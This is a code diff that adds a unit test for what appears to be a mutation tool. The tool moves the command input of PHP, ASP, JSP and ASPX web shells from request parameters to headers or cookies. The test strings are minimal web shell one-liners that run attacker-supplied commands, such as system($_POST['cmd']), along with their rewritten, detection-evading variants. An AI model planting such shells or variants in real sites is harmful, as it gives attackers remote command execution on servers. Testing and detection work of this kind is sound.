@@ -109,3 +109,23 @@ def test_crlf_swaps_line_ends_both_ways() -> None:
     assert m.crlf("a\nb", random.Random(0)) == "a\r\nb"
     assert m.crlf("a\r\nb", random.Random(0)) == "a\nb"
     assert m.crlf("ab", random.Random(0)) is None
+
+
+def test_request_sources_swap_keys_and_keep_other_code() -> None:
+    r = random.Random(0)
+    assert m.php_header("<?php system($_POST['cmd']); ?>", r) == (
+        "<?php system($_SERVER['HTTP_CMD']); ?>"
+    )
+    assert m.php_cookie("<?php f($_GET[1]); $x = $_POST; ?>", r) == (
+        "<?php f($_COOKIE[1]); $x = $_POST; ?>"
+    )
+    page = '<% Execute Request.Form("a") : x = Request("b") : y = Request(k) %>'
+    assert m.asp_cookie(page, r) == (
+        '<% Execute Request.Cookies("a") : x = Request.Cookies("b") : y = Request(k) %>'
+    )
+    jsp = '<% out.print("getParameter("); exec(request.getParameter("c")); %>'
+    assert m.jsp_header(jsp, r) == '<% out.print("getParameter("); exec(request.getHeader("c")); %>'
+    aspx = '<%@ Page Language="C#" %><% Run(Request.Form["c"]); Run(Request[k]); %>'
+    assert m.aspx_header(aspx, r) == (
+        '<%@ Page Language="C#" %><% Run(Request.Headers["c"]); Run(Request[k]); %>'
+    )
